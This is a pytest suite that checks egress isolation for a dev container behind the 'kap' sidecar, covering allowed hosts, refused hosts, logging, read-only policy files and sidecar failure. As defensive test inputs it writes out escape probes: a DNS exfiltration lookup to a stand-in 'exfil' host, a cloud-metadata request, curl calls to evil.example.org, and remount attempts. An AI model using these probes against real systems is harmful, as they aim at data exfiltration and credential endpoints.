"""A real dev container, brought up by the devcontainer CLI: what passes, what does not, and what the internet saw of it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from lab import images
from lab.engine import HOST_ADDRESS, HOST_SERVICE_PORT, Lab
from lab.internet import WEB
from lab.project import DevContainer

PROBES = Path(__file__).parent / "inside" / "probes.py"
NO_PROXY_VARIABLES = "env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY"


@pytest.fixture(scope="module")
def capsule(lab: Lab, cli: str, sidecar_image: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[DevContainer]:
    container = DevContainer(lab, cli, "compose-with-db", tmp_path_factory.mktemp("capsule"), images.BASE)
    accepted = container.kap("overlay")
    assert accepted.returncode == 0, accepted.stderr
    started = container.up()
    assert started.returncode == 0, started.stdout + started.stderr
    assert "kap: isolated" in started.stderr + started.stdout
    yield container
    container.close()


def sidecar_address(capsule: DevContainer) -> str:
    return capsule.sh("echo $KAP_SIDECAR").stdout.strip().split(":")[0]


def host_log(capsule: DevContainer) -> str:
    return (capsule.state / "sidecar" / "events.jsonl").read_text()


# --- What passes --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url", ["http://www.example.com/a", "https://www.example.com/a", "https://deep.sub.example.net/a"]
)
@pytest.mark.parametrize(
    "prefix", ["", NO_PROXY_VARIABLES, "env -i"], ids=["variables", "transparent", "no-environment"]
)
def test_an_allowed_host_is_reached(capsule: DevContainer, prefix: str, url: str) -> None:
    done = capsule.sh(f"{prefix} curl -sS -k -m 10 {url}")
    assert done.stdout.startswith("fake-internet " + url.split(":")[0]), done.stderr


def test_a_program_that_knows_no_proxy_reaches_an_allowed_host(capsule: DevContainer) -> None:
    program = (
        "import socket,ssl;c=ssl._create_unverified_context();s=c.wrap_socket(socket.create_connection(('www.example.com',443),5),"
        "server_hostname='www.example.com');s.sendall(b'GET /py HTTP/1.1\\r\\nHost: www.example.com\\r\\nConnection: close\\r\\n\\r\\n');"
        "print(s.recv(4096), s.recv(4096))"
    )
    done = capsule.sh(f'env -i python3 -c "{program}"')
    assert "fake-internet https www.example.com /py" in done.stdout, done.stderr


def test_sibling_services_reach_each_other(capsule: DevContainer) -> None:
    assert capsule.sh("curl -sS -m 5 http://db:5432/").stdout.strip() == "database"


def test_hooks_and_devcontainer_exec_see_the_capsule(capsule: DevContainer) -> None:
    assert "fake-internet" in capsule.exec("curl", "-sS", "-m", "10", "http://www.example.com/exec").stdout
    assert capsule.exec("sh", "-c", "exit 7").returncode == 7


# --- What does not ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "code"),
    [
        ("http://evil.example.org/", "egress.not-listed"),
        ("http://private.example.net/", "egress.deny-rule"),
        ("http://www.example.com:8099/", "egress.port-not-listed"),
        (f"http://{HOST_ADDRESS}:{HOST_SERVICE_PORT}/", "egress.ip-not-listed"),
        ("http://169.254.169.254/latest/meta-data/", "egress.always-denied"),
        ("http://metadata.example.net/", "egress.address-not-global"),
        ("http://loopback.example.net/", "egress.own-address"),
    ],
)
def test_a_host_that_is_not_allowed_is_refused_with_its_reason(capsule: DevContainer, url: str, code: str) -> None:
    done = capsule.sh(f"curl -sS -m 10 -i {url}")
    assert f"x-kap-reason: {code}" in done.stdout.lower(), done.stdout + done.stderr
    assert "fake-internet" not in done.stdout


@pytest.mark.parametrize("prefix", ["", NO_PROXY_VARIABLES], ids=["variables", "transparent"])
def test_a_denied_https_host_is_not_reached(capsule: DevContainer, prefix: str) -> None:
    done = capsule.sh(f"{prefix} curl -sS -k -m 10 https://evil.example.org/")
    assert done.returncode in (6, 56), done.stderr
    assert "fake-internet" not in done.stdout


def test_a_denied_name_in_the_hello_or_the_host_header_is_not_reached(capsule: DevContainer) -> None:
    """The name is not asked of a name server: the connection goes straight to the sidecar's transparent ports."""
    sidecar = sidecar_address(capsule)
    tls = capsule.sh(
        f"{NO_PROXY_VARIABLES} curl -sS -k -m 10 --resolve evil.example.org:443:{sidecar} https://evil.example.org/"
    )
    assert tls.returncode in (35, 52, 56), tls.stdout + tls.stderr
    plain = capsule.sh(
        f"{NO_PROXY_VARIABLES} curl -sS -i -m 10 --resolve evil.example.org:80:{sidecar} http://evil.example.org/"
    )
    assert "x-kap-reason: egress.not-listed" in plain.stdout.lower()


def test_no_way_out_without_the_sidecar_and_the_internet_saw_nothing(capsule: DevContainer, lab: Lab) -> None:
    (app,) = capsule.containers("app")
    lab.docker("cp", PROBES, f"{app}:/tmp/probes.py")
    sidecar = sidecar_address(capsule)
    gateway = sidecar.rsplit(".", 1)[0] + f".{int(sidecar.rsplit('.', 1)[1]) - 1}"
    control = lab.docker("run", "--rm", images.BASE, "curl", "-sS", "-m", "5", f"http://{WEB}/control").stdout
    assert control.startswith("fake-internet"), (
        "a plain container does not reach the internet either: the probes prove nothing"
    )
    before, asked = len(lab.seen()), len(lab.seen(resolver=True))
    done = lab.docker("exec", app, "python3", "/tmp/probes.py", sidecar, gateway, HOST_ADDRESS, timeout=120)
    results = json.loads(done.stdout)
    assert len(results) > 40
    assert {name: r for name, r in results.items() if not r.startswith("closed")} == {}
    assert lab.seen()[before:] == []
    assert lab.seen(resolver=True)[asked:] == []


def test_a_denied_name_never_leaves(capsule: DevContainer, lab: Lab) -> None:
    capsule.sh(
        "getent hosts data-of-the-user.exfil.example.org; getent hosts x.private.example.org; curl -m 5 http://data2.example.org/"
    )
    for events in (lab.seen("dns"), lab.seen(resolver=True)):
        assert [e for e in events if "exfil" in e["name"] or e["name"].endswith("example.org")] == []


def test_the_refusals_are_in_the_log_on_the_host(capsule: DevContainer, lab: Lab) -> None:
    capsule.sh("curl -sS -m 10 http://logged.example.org/; getent hosts named.example.org")
    wanted = {("egress", "logged.example.org", "egress.not-listed"), ("dns", "named.example.org", "dns.not-listed")}

    def events() -> list[dict[str, str]]:
        return [json.loads(line) for line in host_log(capsule).splitlines()]

    def denied() -> set[tuple[str, str, str]]:
        return {(e["plane"], e["host"], e["code"]) for e in events() if e.get("verdict") == "deny"}

    lab.wait_for(lambda: wanted <= denied(), "the log to be written")
    assert {e.get("capsule") for e in events()} == {"compose-with-db"}


# --- What governs it ----------------------------------------------------------------------------------------------------


def test_what_governs_the_capsule_cannot_be_written_inside(capsule: DevContainer) -> None:
    for path in ("devcontainer.json", "compose.yml", "kap.overlay.yml", "new-file"):
        assert "Read-only file system" in capsule.sh(f"echo x >> /workspace/.devcontainer/{path}").stderr
    assert capsule.sh("umount /workspace/.devcontainer").returncode != 0
    assert capsule.sh("mount -o remount,rw /workspace/.devcontainer").returncode != 0


def test_no_secret_and_no_policy_of_the_host_is_inside(capsule: DevContainer) -> None:
    found = capsule.sh("ls -a / /root /etc/kap /var/log/kap 2>/dev/null; mount").stdout
    assert ".kap" not in found
    assert "/etc/kap" not in found
    assert "docker.sock" not in found


def test_a_policy_edited_in_the_workspace_changes_nothing_until_a_person_accepts_it(
    capsule: DevContainer, lab: Lab
) -> None:
    url = "http://accepted.example.org/"
    inside = "sed -i 's/allow = \\[/allow = [\"accepted.example.org\", /' /workspace/kap.toml && grep -c accepted /workspace/kap.toml"
    assert capsule.sh(inside).stdout.strip() == "1"
    # Neither at once nor when the container is started again: initializeCommand refreshes, and accepts nothing.
    again = capsule.up()
    assert again.returncode == 0, again.stderr
    assert "egress.not-listed" in capsule.sh(f"curl -sS -m 10 -i {url}").stdout
    status = capsule.kap("status")
    assert status.returncode == 0, status.stdout + status.stderr
    assert "kap.toml differs from it" in status.stdout

    assert capsule.kap("overlay").returncode == 0
    lab.wait_for(
        lambda: "fake-internet" in capsule.sh(f"curl -sS -m 10 {url}").stdout, "the accepted policy to be in force"
    )


# --- kap status ---------------------------------------------------------------------------------------------------------


def test_status_is_ok_in_words_and_as_json(capsule: DevContainer) -> None:
    words = capsule.kap("status")
    assert words.returncode == 0, words.stdout + words.stderr
    assert "FAILED" not in words.stdout
    done = capsule.kap("status", "--json", "-C", str(capsule.directory))
    report = json.loads(done.stdout)
    assert report["ok"] is True
    subjects = {c["subject"] for c in report["checks"]}
    assert subjects >= {"engine", "gate", "sidecar", "policy", "app", "db", "inside"}
    assert {c["state"] for c in report["checks"]} == {"ok"}


def test_status_sees_a_container_that_was_put_on_another_network(capsule: DevContainer, lab: Lab) -> None:
    (app,) = capsule.containers("app")
    lab.docker("network", "connect", "bridge", app)
    try:
        report = json.loads(capsule.kap("status", "--json").stdout)
    finally:
        lab.docker("network", "disconnect", "bridge", app)
    failed = {(c["subject"], c["code"]) for c in report["checks"] if c["state"] == "failed"}
    assert {("app", "gate.second-network"), ("app", "gate.network-open"), ("inside", "gate.direct-route")} <= failed
    assert report["ok"] is False


# --- Last: the sidecar dies -----------------------------------------------------------------------------------------------


def test_with_the_sidecar_killed_nothing_passes(capsule: DevContainer, lab: Lab) -> None:
    (sidecar,) = capsule.containers("kap-sidecar")
    lab.docker("kill", "--signal", "KILL", sidecar)
    before, asked = len(lab.seen()), len(lab.seen(resolver=True))
    for command in (
        "curl -sS -k -m 3 https://www.example.com/",
        f"{NO_PROXY_VARIABLES} curl -sS -m 3 http://{WEB}/",
        "timeout 3 getent hosts www.example.com",
    ):
        done = capsule.sh(command)
        assert done.returncode != 0, done.stdout
    assert lab.seen()[before:] == []
    assert lab.seen(resolver=True)[asked:] == []
    status = capsule.kap("status")
    assert status.returncode == 1
    assert "no sidecar runs (gate.no-sidecar)" in status.stdout
    gate = capsule.sh("/usr/local/share/kap/gate.sh --wait 0")
    assert gate.returncode == 1
    assert "gate.no-sidecar" in gate.stderr


def test_a_sidecar_that_crashes_comes_back(capsule: DevContainer, lab: Lab) -> None:
    (sidecar,) = capsule.containers("kap-sidecar")
    lab.docker("start", sidecar)

    def reached() -> bool:
        return "fake-internet" in capsule.sh("curl -sS -m 5 http://www.example.com/back").stdout

    lab.wait_for(reached, "the sidecar to serve again")
    # Not by the engine's own kill, which counts as "stopped by a person".
    (pid,) = lab.docker("inspect", "-f", "{{.State.Pid}}", sidecar).stdout.split()
    lab.docker("run", "--rm", "--pid=host", "--privileged", images.BASE, "sh", "-c", f"kill -KILL {pid}")
    lab.wait_for(reached, "the engine to start the sidecar again")
